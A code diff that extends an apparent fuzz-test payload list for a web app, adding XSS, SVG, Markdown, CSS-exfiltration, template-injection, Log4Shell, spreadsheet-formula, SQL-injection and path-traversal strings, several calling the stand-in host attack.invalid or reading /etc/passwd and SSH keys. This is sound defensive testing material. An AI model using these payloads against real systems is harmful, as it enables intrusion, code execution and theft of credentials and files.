@@ -35,6 +35,21 @@ HTML = (
     f'" onmouseover="{HIT}" x="',
     f"' autofocus onfocus='{HIT}' '",
     f"`onmouseover={HIT}`",
+    f"<xss autofocus tabindex=1 onfocus={HIT}>",
+    f"<select autofocus onfocus={HIT}><option>a</option></select>",
+    f"<marquee onstart={HIT}>moving</marquee>",
+    f"<audio src=x onerror={HIT}><track src={URL}>",
+    f'<img srcset="{URL} 2x" sizes=1px loading=eager>',
+    f'<picture><source srcset="{URL}"><img></picture>',
+    f'<table background="{URL}"><td background="{URL}">cell</table>',
+    f'<input type=image src="{URL}" formaction="javascript:{HIT}">',
+    f'<a href="{URL}" ping="{URL}" autofocus>a link</a>',
+    f'<link rel=prefetch href="{URL}"><link rel=dns-prefetch href="//{HOST}">',
+    '<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>',
+    f"<div popover id=p onbeforetoggle={HIT}></div><button popovertarget=p>open</button>",
+    f'<div id="root"></div><form id="stApp" name="location"><input name="href" value="{URL}"></form>',
+    f"<plaintext><textarea><title><img src=x onerror={HIT}>",
+    f"<style onload={HIT}></style><script type=module>{HIT}</script>",
 )
 SVG = (
     f"<svg onload={HIT}>",
@@ -42,6 +57,9 @@ SVG = (
     f'<svg><image href="{URL}"/><use href="{URL}#a"/></svg>',
     f"<svg><animate onbegin={HIT} attributeName=x dur=1s></svg>",
     f'<svg><a xlink:href="javascript:{HIT}"><text>go</text></a></svg>',
+    f"<svg><foreignObject><img src=x onerror={HIT}></foreignObject></svg>",
+    f'<svg><set attributeName="href" to="javascript:{HIT}"/><a><text y=9>go</text></a></svg>',
+    f'<svg style="filter:url({URL}#f)"><feImage href="{URL}"/></svg>',
 )
 MARKDOWN = (
     f"![beacon]({URL}.png)",
@@ -57,6 +75,18 @@ MARKDOWN = (
     "$\\href{javascript:window.__hit=1}{x}$ and $$\\frac{1}{0}$$",
     f"\\(\\includegraphics{{{URL}}}\\)",
     "> quoted --- ~~~ ```",
+    f'[![inner]({URL})]({URL} "title")',
+    f"![a]({URL} 'b'){{width=1}}",
+    f'<img src="{URL}"> **after** <br/>',
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[^1]: a footnote [^1] - [x] done - [ ] open",
+    "1. one\n2. two\n\n---\n\n```html\n<script>window.__hit=1</script>\n```",
+    "| a |\n|---|\n| ![x](http://attack.invalid/y.png) |",
+    ":blue-badge[badge] :gray-background[gray] :orange[orange",
+    ":shortcode_that_is_none: :+1: :heart: :material/delete_forever:",
+    f"[mail](mailto:x@{HOST}?body=%0d%0aBcc:y) [tel](tel:112)",
+    "\\[\\href{http://attack.invalid/x}{y}\\] $\\url{http://attack.invalid}$",
+    "&#33;&#91;x&#93;&#40;http://attack.invalid/z&#41;",
 )
 LINKS = (
     f"javascript:{HIT}",
@@ -65,6 +95,14 @@ LINKS = (
     f"data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg== {URL}",
     f"//{HOST}/x",
     f"vbscript:{HIT}",
+    f"javascript&colon;{HIT}",
+    f"\x01javascript:{HIT}",
+    f"https://{HOST}\\@localhost/",
+    f"https://localhost@{HOST}/x",
+    f"http:{HOST}/x",
+    "file:///etc/passwd",
+    f"blob:http://{HOST}/1",
+    f"view-source:{URL}",
 )
 CHARTS = (
     f'<a href="{URL}">a</a>',
@@ -73,12 +111,23 @@ CHARTS = (
     f'<span style="font-size:99px;fill:red" href="{URL}">big</span>',
     "<br><br><sub>sub</sub><sup>sup</sup><extra></extra>",
     "%{customdata[0]} %{x:d} %{text}",
+    f"<i>a</i><em>b</em><strong>c</strong><u>d</u><s>e</s> <a href='{URL}' target='_blank'>f</a>",
+    f'<a href="data:text/html,<script>{HIT}</script>">a</a>',
+    f'<span style="background-image:url({URL})">a</span>',
+    "$x^2$ \\(a\\) $$\\text{b}$$",
+    "%{hovertext}<extra>%{fullData.name}</extra> %{y:$.2f}",
+    "<br>" * 40 + "tall",
 )
 STYLES = (
     f"</style><img src=x onerror={HIT}>",
     f"<style>@import '{URL}'; * {{ display: none }}</style>",
     f"}} body {{ background: url({URL}) }} .a {{",
     f'\'; color: red; background: url("{URL}")',
+    f'<div style="position:fixed;inset:0;background:url({URL})">',
+    f"@font-face {{ font-family: x; src: url({URL}) }} * {{ font-family: x }}",
+    "<link rel=stylesheet href=data:text/css,*%7Bdisplay:none%7D>",
+    f"input[value^=a] {{ background: url({URL}?a) }}",
+    "fl-title stApp block-container hidden display:none !important",
 )
 ENTITIES = (
     f"&lt;img src=x onerror={HIT}&gt;",
@@ -87,6 +136,12 @@ ENTITIES = (
     "&nbsp;&zwj;&#0;&#x202e;&unknown;",
     "\\u003cscript\\u003ewindow.__hit=1\\u003c/script\\u003e",
     f"%3Cscript%3E{HIT}%3C/script%3E",
+    f"&lt;/p&gt;&lt;script&gt;{HIT}&lt;/script&gt;",
+    "&#x3C;svg/onload&#x3D;window.__hit&#x3D;1&#x3E;",
+    f"&LT;img src&equals;x onerror&equals;{HIT}&GT;",
+    f"＜script＞{HIT}＜/script＞",
+    "&#9;&#10;&#13;&Tab;&NewLine;x",
+    f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
 )
 UNSEEN = (
     "start \u202etxt.exe\u202c end",
@@ -96,17 +151,73 @@ UNSEEN = (
     "Z\u0351\u036b\u0343a\u0300\u0301\u0302\u0303l\u0321go",
     "👩\u200d👩\u200d👧 🏳️\u200d🌈 😀 \U000e0041 ﷽",
     "אבג العربية 漢字 ｆｕｌｌ ＜script＞",
+    "\u202ereversed\u202c \u202dforced\u202c \u2066isolated\u2069",
+    "\u061ca\u200eb\u200fc mixed \u05d0\u05d1 123 \u0661\u0662",
+    "a\u2028b\u2029c line and paragraph separators",
+    "\ufff9annotated\ufffatext\ufffb \ufffc \ufffd",
+    "\u115f\u1160\u3164\uffa0 hangul fillers",
+    "combining " + "e" + "\u0301" * 60,
+    "\U000e0001\U000e0061\U000e0062 tag characters",
+    "раура1 аррӏе ехаmрӏе homoglyphs",
 )
 TEMPLATES = (
     "{{ 7*7 }} {% print(1) %} ${7*7} #{7*7} <%= 7*7 %>",
     "{{constructor.constructor('window.__hit=1')()}}",
     "{0} {name} %s %d %n {__class__}",
+    "{{''.__class__.__mro__[1].__subclasses__()}}",
+    "${jndi:ldap://attack.invalid/a} #{T(java.lang.Runtime)}",
+    "$(touch /tmp/hit) `touch /tmp/hit` ; touch /tmp/hit | cat && echo",
+    "%s%s%s%n%x {0.__init__.__globals__} f'{1+1}'",
+    "!!python/object/apply:os.system ['true'] - &a [*a]",
+    '{"$where": "1"} {"__proto__": {"x": 1}} constructor prototype',
+)
+FORMULAS = (
     '=HYPERLINK("http://attack.invalid/x","a")',
     "+cmd|' /C calc'!A0 @SUM(1) -2+3",
+    "=cmd|'/C calc'!A1",
+    '=WEBSERVICE("http://attack.invalid/x")',
+    '=IMPORTXML("http://attack.invalid/x","//a")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-1+1|cmd",
+    "\t=1+1",
+    "\uff1d1+1 ＝1+1",
+    '"=1+1","b"\n=2',
+    '=DDE("cmd";"/C calc";"x")',
+)
+QUERIES = (
     "'; DROP TABLE articles; -- \" OR 1=1",
+    "' UNION SELECT body FROM articles --",
+    "%' OR '1'='1' /* _ % \\",
+    "read_csv('/etc/passwd') COPY articles TO '/tmp/x'",
+    "$1 ? :name {sql} ATTACH 'http://attack.invalid/x.db'",
+    "(a+)+$ [a-z]*+ \\d{1,9999} (?=x) .* ^",
+)
+PATHS = (
     "../../../../etc/passwd C:\\Windows\\win.ini ~/.ssh",
+    "..%2f..%2f..%2fetc%2fpasswd",
+    "....//....//etc/passwd",
+    "/proc/self/environ",
+    "\\\\attack.invalid\\share\\x",
+    "file:///etc/passwd%00.md",
+    "CON NUL aux.md PRN",
+    "~root/.ssh/id_rsa $HOME %USERPROFILE%",
 )
 LONG = ("long" * 500, "Sch" + "i" * 3_000 + "ff-" * 300, "W" * 20_000)
 
-PAYLOADS = (*HTML, *SVG, *MARKDOWN, *LINKS, *CHARTS, *STYLES, *ENTITIES, *UNSEEN, *TEMPLATES, *LONG)
+KINDS = {
+    "HTML and script": HTML,
+    "SVG": SVG,
+    "Markdown": MARKDOWN,
+    "addresses": LINKS,
+    "chart labels": CHARTS,
+    "style sheets": STYLES,
+    "entities": ENTITIES,
+    "unseen characters": UNSEEN,
+    "templates and commands": TEMPLATES,
+    "spreadsheet formulas": FORMULAS,
+    "queries and patterns": QUERIES,
+    "paths": PATHS,
+    "length": LONG,
+}
+PAYLOADS = tuple(payload for payloads in KINDS.values() for payload in payloads)
 MEGABYTE = "The Moscow summit failed " + "on and on " * 100_000
